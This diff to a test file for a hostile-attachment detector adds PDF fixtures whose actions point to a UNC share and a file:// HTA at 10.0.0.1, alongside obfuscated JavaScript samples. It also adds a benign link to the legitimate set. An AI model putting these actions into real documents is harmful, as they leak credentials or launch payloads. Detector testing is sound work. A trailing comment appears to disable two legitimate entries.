@@ -416,6 +416,8 @@ DISGUISES: dict[str, list[tuple[str, bytes]]] = {
         ("评分表.pdf", _pdf_with(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>")),
         ("评分表.pdf", _pdf_with(_objstm(b"<< /S /JavaScript /JS (app.alert(1)) >>"))),
         ("评分表.pdf", _pdf_with(b"<< /Subtype /RichMedia >>")),
+        ("评分表.pdf", _pdf_with(b"<</S/GoToR/F(\\\\\\\\10.0.0.1\\\\share\\\\x.pdf)/D[0/Fit]>>")),
+        ("评分表.pdf", _pdf_with(b"<</S/URI/URI(file://10.0.0.1/share/x.hta)>>")),
     ],
 }
 
@@ -444,7 +446,8 @@ def _legit() -> list[tuple[str, bytes]]:
     documents = {p.name: p.read_bytes() for p in LEGIT_DIR.iterdir() if p.suffix in (".pdf", ".docx", ".xlsx", ".doc", ".jpg")}
     files += [
         ("评分表.pdf", pdf_bytes()), ("图表.pdf", _matplotlib_pdf()),
-        ("评分表.pdf", pdf_bytes("Ratio A/JS (see /Launch plan) and FE/EF \\(draft\\)")),  # names in a page's text ("总结报告.docx", docx_bytes()), ("评分表.xlsx", xlsx_bytes()),
+        ("评分表.pdf", pdf_bytes("Ratio A/JS (see /Launch plan) and FE/EF \\(draft\\)")),  # names in a page's text
+        ("评分表.pdf", _pdf_with(b"<</S/URI/URI(http://tjj.example.cn/)>>")),  # an ordinary web link ("总结报告.docx", docx_bytes()), ("评分表.xlsx", xlsx_bytes()),
         ("汇报.pptx", pptx), ("总结.ofd", ofd), ("视频.mp4", b"\0\0\0\x20ftypisom" + b"\0" * 100),
         ("材料.zip", _zip(documents)), ("材料.zip", _zip({"资料/": b"", "资料/说明.txt": "乡镇说明".encode(), **documents})),
         ("材料.zip", _zip({"各乡镇.zip": _zip(documents), "说明.txt": "见各乡镇材料".encode("gb18030")})),
